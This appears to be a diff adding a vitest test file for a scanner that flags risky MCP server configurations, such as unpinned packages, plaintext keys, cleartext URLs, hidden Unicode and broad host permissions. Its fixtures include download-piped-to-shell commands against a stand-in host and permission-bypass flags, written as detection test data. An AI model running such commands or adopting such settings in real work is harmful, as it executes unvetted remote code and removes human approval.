@@ -1,0 +1,151 @@
+import { expect, test } from 'vitest';
+import { knownMcpServers } from './app-catalog/known-mcp-servers.ts';
+import { readMcpServers } from './app-catalog/mcp-server.ts';
+import { flagsOfServer, hidesText, isCleartext, settingHolds } from './risk-flags.ts';
+
+function flags(declared: object, context: { known?: string; worldReadable?: boolean } = {}) {
+  const [found] = readMcpServers({ servers: { name: declared } }, [['servers']]);
+  if (!found) throw new Error('not a server');
+  const known = knownMcpServers.find((entry) => entry.id === context.known);
+  return flagsOfServer(found.server, { known, worldReadable: context.worldReadable ?? false });
+}
+
+const args = (command: string, ...list: string[]) => ({ command, args: list });
+
+test.each<[string, object, string[]]>([
+  ['a pinned package', args('npx', '-y', 'foo-mcp@1.2.3'), []],
+  ['a local program', args('/opt/foo/bin/foo', '--stdio'), []],
+  ['an encrypted address', { url: 'https://mcp.example/mcp' }, []],
+  ['an address of this machine', { url: 'http://127.0.0.1:3000/mcp' }, []],
+  [
+    'a reference to a key',
+    { url: 'https://a.example', headers: { Authorization: 'Bearer ${T}' } },
+    [],
+  ],
+  [
+    'a download piped to a shell',
+    args('bash', '-c', 'curl -s https://x.example/i | bash'),
+    ['remote_fetch_exec', 'mcp_shell_exec'],
+  ],
+  [
+    'a download substituted',
+    args('sh', '-c', 'sh <(curl https://x.example/i)'),
+    ['remote_fetch_exec', 'mcp_shell_exec'],
+  ],
+  [
+    'a package from a repository',
+    args('uvx', '--from', 'git+https://git.example/x', 'x'),
+    ['remote_fetch_exec', 'unpinned_dependency'],
+  ],
+  [
+    'a script from an address',
+    args('deno', 'run', '-A', 'https://x.example/m.ts'),
+    ['remote_fetch_exec', 'unpinned_dependency'],
+  ],
+  ['the newest version', args('npx', '-y', 'foo-mcp'), ['unpinned_dependency']],
+  ['a moving tag', args('docker', 'run', '-i', 'foo/mcp:latest'), ['unpinned_dependency']],
+  ['a shell', args('sh', '-c', 'exec foo'), ['mcp_shell_exec']],
+  ['a package that runs commands', args('npx', 'mcp-shell-thing@1.0.0'), ['mcp_shell_exec']],
+  ['a package that writes files', args('npx', 'my-filesystem-mcp@1.0.0'), ['mcp_fs_write']],
+  ['one that only reads', args('npx', 'my-filesystem-mcp@1.0.0', '--read-only'), []],
+  [
+    'a key in the environment',
+    { command: 'foo', env: { API_KEY: 'hunter22' } },
+    ['plaintext_secret'],
+  ],
+  [
+    'a key in a header',
+    { url: 'https://a.example', headers: { Authorization: 'Bearer hunter22' } },
+    ['plaintext_secret'],
+  ],
+  ['a key as an argument', args('foo', '--api-key', 'hunter22'), ['plaintext_secret']],
+  ['a key behind an equals sign', args('foo', '--token=hunter22'), ['plaintext_secret']],
+  [
+    'a key in a variable of a container',
+    args('docker', 'run', '-e', 'API_KEY=hunter22', 'foo/mcp:1.2.3'),
+    ['plaintext_secret'],
+  ],
+  [
+    'a password in an address',
+    args('foo', 'postgresql://ada:hunter22@db.example/x'),
+    ['plaintext_secret'],
+  ],
+  ['a key in a parameter', { url: 'https://a.example/mcp?api_key=hunter22' }, ['plaintext_secret']],
+  [
+    'a key in a path',
+    { url: 'https://a.example/s/0123456789abcdef0123456789abcdef/mcp' },
+    ['plaintext_secret'],
+  ],
+  ['an unencrypted address', { url: 'http://mcp.example/sse' }, ['cleartext_endpoint']],
+  [
+    'one behind a bridge',
+    args('npx', 'mcp-remote@1.2.3', 'http://mcp.example/sse'),
+    ['cleartext_endpoint'],
+  ],
+  ['every tool approved', { command: 'foo', alwaysAllow: ['*'] }, ['bypass_permissions']],
+  ['a trusted server', { command: 'foo', trust: true }, ['bypass_permissions']],
+  [
+    'an agent without questions',
+    args('claude', 'mcp', 'serve', '--dangerously-skip-permissions'),
+    ['bypass_permissions'],
+  ],
+  ['hidden text', { command: 'foo', description: 'good\u{E0041}\u{E0042}' }, ['hidden_unicode']],
+  ['every host', args('foo', '--allowed-origins', '*'), ['broad_host_permissions']],
+  ['every host among some', args('foo', '--allowed-hosts=a.example,*'), ['broad_host_permissions']],
+  ['one host', args('foo', '--allowed-hosts=a.example'), []],
+])('%s', (_, declared, expected) => {
+  expect(flags(declared)).toEqual(expected);
+});
+
+test('what the catalog says of a server counts more than its name', () => {
+  const server = args('npx', '@wonderwhy-er/desktop-commander@0.2.0');
+  expect(flags(server, { known: 'mcp-desktop-commander' })).toEqual([
+    'mcp_shell_exec',
+    'mcp_fs_write',
+  ]);
+  expect(flags(args('npx', 'mcp-shell@1.0.0'), { known: 'mcp-memory' })).toEqual([]);
+});
+
+test('a configuration that everybody may read', () => {
+  expect(flags({ command: 'foo' }, { worldReadable: true })).toEqual(['world_readable_config']);
+});
+
+test.each([
+  ['http://mcp.example', true],
+  ['ws://mcp.example', true],
+  ['http://10.0.0.1:80', true],
+  ['https://mcp.example', false],
+  ['http://localhost:1', false],
+  ['http://x.localhost', false],
+  ['http://[::1]:1', false],
+  ['http://127.0.0.1.example', true],
+  ['http', false],
+])('%s in clear: %s', (address, clear) => expect(isCleartext(address)).toBe(clear));
+
+test('an emoji of several parts hides nothing', () => {
+  expect(['👩‍💻 tools', 'a\u200Db', 'plain', 'a\u202Eb'].map(hidesText)).toEqual([
+    false,
+    true,
+    false,
+    true,
+  ]);
+});
+
+test.each([
+  [{ permissions: { defaultMode: 'bypassPermissions' } }, true],
+  [{ permissions: { defaultMode: ['ask', 'bypassPermissions'] } }, true],
+  [{ permissions: { defaultMode: 'ask' } }, false],
+  [{ permissions: 'bypassPermissions' }, false],
+  [null, false],
+])('the setting in %j: %s', (document, holds) => {
+  const check = {
+    flag: 'bypass_permissions',
+    file: 'x',
+    format: 'json',
+    key: ['permissions', 'defaultMode'],
+    values: ['bypassPermissions'],
+  } as const;
+  expect(settingHolds({ ...check, key: [...check.key], values: [...check.values] }, document)).toBe(
+    holds,
+  );
+});
